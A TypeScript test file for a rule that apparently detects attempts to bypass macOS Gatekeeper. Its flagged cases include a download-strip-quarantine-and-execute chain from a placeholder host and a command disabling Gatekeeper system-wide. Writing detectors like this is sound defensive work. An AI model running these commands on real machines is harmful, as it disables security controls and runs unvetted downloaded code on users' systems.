import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts';
import { gateRemoval } from './gate-removal.rule.ts';

describeCodeRule(gateRemoval, {
  caught: [
    sh('curl -o a https://a.example.invalid/a\nxattr -c a\n./a'),
    sh('xattr -d com.apple.quarantine /Applications/Tool.app'),
    sh('spctl --master-disable'),
  ],
  quiet: [
    sh('brew install tool\nxattr -d com.apple.quarantine /opt/homebrew/bin/tool'),
    sh('xattr -l file'),
    text('Do not run `spctl --master-disable`, ever.'),
  ],
  notApplicable: [sh('ls'), text('Notes.'), py('x = 1')],
});
